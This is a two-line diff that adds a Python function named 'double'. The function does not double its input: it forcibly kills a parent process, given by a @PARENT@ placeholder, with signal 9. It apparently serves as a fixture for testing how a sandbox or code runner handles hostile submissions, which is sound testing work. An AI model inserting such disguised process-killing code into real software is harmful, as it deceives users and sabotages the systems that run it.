@@ -1,0 +1,2 @@
+def double(x):
+    import os; os.kill(@PARENT@, 9)
